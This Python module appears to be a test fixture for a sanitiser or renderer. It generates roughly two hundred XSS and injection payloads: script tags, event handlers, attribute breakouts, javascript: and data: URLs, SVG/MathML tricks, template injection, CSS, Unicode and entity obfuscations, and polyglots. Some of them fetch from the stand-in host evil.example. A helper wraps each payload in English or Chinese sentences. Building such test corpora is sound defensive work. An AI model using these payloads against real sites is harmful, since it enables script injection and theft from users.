"""Texts that would run, or fetch something, in a page that took them for more than text.

    ATTACKS        some two hundred of them, each of one class of attack
    surrounded     one of them in a sentence of either language
    HARM           what they do when they run: `window.ran`, a dialog, a request to HOST

Put together from the ways into a page (what begins a script) and from what is done there, so that
neither is tried in one spelling only.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from itertools import cycle

HOST = "evil.example"
HARM = ("window.ran=1", "alert(1)", f"fetch('//{HOST}/f')", "top.ran=1", "self['ran']=1")
_HARM = cycle(HARM)

# Ways in; `@` stands for the harm.
_WAYS: dict[str, tuple[str, ...]] = {
    "tag": (
        "<script>@</script>",
        "<SCRIPT>@</SCRIPT>",
        "<script >@</script\t>",
        "<script/x>@</script>",
        "<scr<script>ipt>@</scr</script>ipt>",
        "<<script>script>@<</script>/script>",
        "<script\n>@</script\n>",
        "<script type=module>@</script>",
        f"<script src=//{HOST}/x.js></script>",
        f"<script src='https://{HOST}/x.js' async></script>",
        f"<link rel=stylesheet href=//{HOST}/x.css>",
        f"<link rel=import href=//{HOST}/x.html>",
        f"<link rel=preload as=script href=//{HOST}/x.js>",
        f"<base href=//{HOST}/>",
        f'<meta http-equiv=refresh content="0;url=//{HOST}/">',
        '<meta http-equiv=refresh content="0;url=javascript:@">',
        '<iframe src="javascript:@"></iframe>',
        '<iframe srcdoc="<script>@</script>"></iframe>',
        f"<iframe src=//{HOST}/></iframe>",
        "<frameset onload=@><frame>",
        '<object data="javascript:@"></object>',
        f"<embed src=//{HOST}/x.swf>",
        "<applet code=@></applet>",
        f"<img src=//{HOST}/x.png>",
        f"<img srcset='//{HOST}/x.png 1x'>",
        f"<video poster=//{HOST}/x.png></video>",
        '<form action="javascript:@"><button>ok</button></form>',
        '<form id=f></form><button form=f formaction="javascript:@">ok</button>',
        "<isindex type=image src=1 onerror=@>",
        "<xmp><script>@</script></xmp>",
        "<plaintext><script>@</script>",
        "<noscript><p title='</noscript><img src=x onerror=@>'>",
        "<template><script>@</script></template>",
        "<title></title><script>@</script>",
        "<textarea></textarea><script>@</script>",
        "<table><td background='javascript:@'>",
        "<portal src='javascript:@'></portal>",
        "<dialog open><script>@</script></dialog>",
    ),
    "handler": (
        "<img src=x onerror=@>",
        "<IMG SRC=x ONERROR=@>",
        "<img/src=x/onerror=@>",
        "<img src=x onerror\n=\n@>",
        '<img src="x" onerror="@">',
        "<img src='x' onerror='@'>",
        "<img src=x onerror=`@`>",
        "<image src=x onerror=@>",
        "<body onload=@>",
        "<body onpageshow=@>",
        "<body onhashchange=@>",
        "<input autofocus onfocus=@>",
        "<select autofocus onfocus=@></select>",
        "<textarea autofocus onfocus=@></textarea>",
        "<button autofocus onfocus=@>ok</button>",
        "<a tabindex=1 autofocus onfocus=@>a</a>",
        "<p contenteditable autofocus onfocus=@>p</p>",
        "<details open ontoggle=@>",
        "<video><source onerror=@></video>",
        "<video src=x onerror=@></video>",
        "<audio src=x onerror=@></audio>",
        "<object data=x onerror=@></object>",
        "<marquee onstart=@>m</marquee>",
        "<div onmouseover=@>hover</div>",
        "<div onpointerenter=@>hover</div>",
        "<div onclick=@>click</div>",
        "<div onscroll=@ style=overflow:scroll>s</div>",
        "<div style='animation:x 1s' onanimationstart=@>a</div>",
        "<div style='transition:all 1s' ontransitionend=@>t</div>",
        "<div popover onbeforetoggle=@>p</div>",
        "<link rel=stylesheet href=x onerror=@>",
        "<script src=x onerror=@></script>",
        "<style onload=@></style>",
        "<iframe onload=@></iframe>",
        "<track onerror=@>",
        "<dialog open onclose=@>d</dialog>",
    ),
    "attribute": (
        '" onmouseover="@',
        "' onmouseover='@",
        "` onmouseover=`@",
        '" autofocus onfocus="@" x="',
        "' autofocus onfocus='@' x='",
        '"><script>@</script>',
        "'><script>@</script>",
        '"><img src=x onerror=@>',
        "'><svg onload=@>",
        '"/><script>@</script><a b="',
        " onfocus=@ autofocus ",
        '" style="background:url(javascript:@)',
        '" href="javascript:@',
        "\\\" onload=\\\"@",
        "&quot; onload=&quot;@",
        '" srcdoc="<script>@</script>',
        '" formaction="javascript:@',
        '" is="x" onload="@',
    ),
    "address": (
        "javascript:@",
        "JaVaScRiPt:@",
        "java\tscript:@",
        "java\nscript:@",
        " javascript:@",
        "\x01javascript:@",
        "javascript&colon;@",
        "javascript://%0a@",
        "javascript:/*--></title></style></textarea></script>*/@",
        "vbscript:@",
        "data:text/html,<script>@</script>",
        "data:text/javascript,@",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>",
        "feed:javascript:@",
        "view-source:javascript:@",
        "jar:javascript:@!/",
        f"//{HOST}/x",
        f"https://{HOST}/x?q=@",
        f"\\\\{HOST}\\x",
        f"/\\{HOST}/x",
        f"http://localhost@{HOST}/x",
        "<a href=javascript:@>a</a>",
        "<a href='java&Tab;script:@'>a</a>",
        "[a](javascript:@)",
        "![a](javascript:@)",
        f"![a](//{HOST}/x.png)",
    ),
    "drawing": (
        "<svg onload=@>",
        "<svg/onload=@>",
        "<svg><script>@</script></svg>",
        "<svg><script href='data:text/javascript,@'/></svg>",
        "<svg><animate onbegin=@ attributeName=x dur=1s>",
        "<svg><set onbegin=@ attributeName=x>",
        "<svg><a xlink:href='javascript:@'><text y=9>a</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=@>#x'/></svg>",
        f"<svg><image href=//{HOST}/x.png onload=@></svg>",
        "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
        "<svg><style><img src=x onerror=@></style></svg>",
        "<svg><title><style></title><img src=x onerror=@></svg>",
        "<svg><animate attributeName=href values=javascript:@ /><a id=x>",
        "<math href='javascript:@'>a</math>",
        "<math><mtext></form><form><mglyph><style></math><img src=x onerror=@>",
        "<math><mi xlink:href='data:x,<script>@</script>'>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=@>",
        "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>@</x:script>",
    ),
    "template": (
        "{{constructor.constructor('@')()}}",
        "{{$on.constructor('@')()}}",
        "{{7*7}}{{@}}",
        "${@}",
        "`${@}`",
        "#{@}",
        "<%= @ %>",
        "{%@%}",
        "[[@]]",
        "{n}{name}{language}{@}",
        "$& $1 $` $' $$ @",
        "%s%d%o @",
        "<div v-html=\"'<img src=x onerror=@>'\">",
        "<div x-data x-init='@'>",
        "<div hx-on:load='@' hx-get=/v1/documents>",
    ),
    "style": (
        "</style><script>@</script>",
        "<style>@import '//evil.example/x.css'</style>",
        "<style>*{background:url(//evil.example/x.png)}</style>",
        "<p style='background:url(//evil.example/x.png)'>p</p>",
        "<p style=width:expression(@)>p</p>",
        "<p style=-moz-binding:url(//evil.example/x.xml#x)>p</p>",
        "x;behavior:url(#x);@",
        "}*{color:red}/*@*/",
        "\"]{}*{background:url('//evil.example/x')}[a=\"",
        "red;}</style><img src=x onerror=@>",
    ),
    "direction": (
        "\u202e<script>@</script>\u202c",
        "\u2066<img src=x onerror=@>\u2069",
        "<scr\u200bipt>@</scr\u200bipt>",
        "\u200f\u202djavascript:@",
        "\ufeff<svg onload=@>",
        "<\u0000script>@</script>",
        "\u00a0onload=@\u2028@",
        "＜script＞@＜/script＞",
    ),
    "entity": (
        "&lt;script&gt;@&lt;/script&gt;",
        "&#60;script&#62;@&#60;/script&#62;",
        "&#x3c;img src=x onerror=@&#x3e;",
        "&#0000060;svg onload=@&#0000062;",
        "%3Cscript%3E@%3C/script%3E",
        "%253Cscript%253E@%253C/script%253E",
        "\\u003cscript\\u003e@\\u003c/script\\u003e",
        "\\x3cimg src=x onerror=@\\x3e",
        "+ADw-script+AD4-@+ADw-/script+AD4-",
        "&NewLine;java&Tab;script&colon;@",
        "&amp;lt;script&amp;gt;@",
        "\\74script\\76@",
    ),
    "string": (
        "</script><script>@</script>",
        "\";@;//",
        "';@;//",
        "'-@-'",
        "\\';@;//",
        "\"}]}<script>@</script>",
        "*/@/*",
        "-->@<!--",
        "--!><script>@</script>",
        "<![CDATA[<script>@</script>]]>",
        "]]><script>@</script>",
        "\u2028@\u2029",
        "\n\nevent: answer\ndata: {\"text\": \"<img src=x onerror=@>\"}\n\n",
        "\r\nContent-Type: text/html\r\n\r\n<script>@</script>",
        "__proto__",
        "constructor",
        "hasOwnProperty",
        "__proto__[ran]=1",
        "constructor[prototype][ran]=1",
        "toString);@;(",
    ),
    "polyglot": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@ )//%0D%0A//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=@//>\\x3e",
        "\"'><img src=x onerror=@>javascript:@//{{@}}",
        "'\"--></style></script><svg onload=@>",
        "\">'><details/open/ontoggle=@>",
        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed>"
        "</script><html \\\" onmouseover=/*&lt;svg/*/onload=@//>",
        "<!--<img src=\"--><img src=x onerror=@//\">",
        "-->'\"/></sCript><svg x=\">\" onload=(@)>",
    ),
}  # fmt: skip
_ENCODED = base64.b64encode(b"<script>top.ran=1</script>").decode()


@dataclass(frozen=True, slots=True)
class Attack:
    """One text and the class of attack it belongs to."""

    kind: str
    text: str


def _made() -> tuple[Attack, ...]:
    found = [
        Attack(kind, way.replace("@", next(_HARM))) for kind, ways in _WAYS.items() for way in ways
    ]
    found.append(Attack("address", f"data:text/html;base64,{_ENCODED}"))
    return tuple(found)


ATTACKS = _made()


def surrounded(attack: Attack, number: int) -> str:
    """A sentence around an attack, in Chinese and in English by turns."""
    if number % 2:
        return f"The representative of Poland said: {attack.text} and nothing more ({number})."
    return f"波兰代表说：{attack.text}，仅此而已（{number}）。"
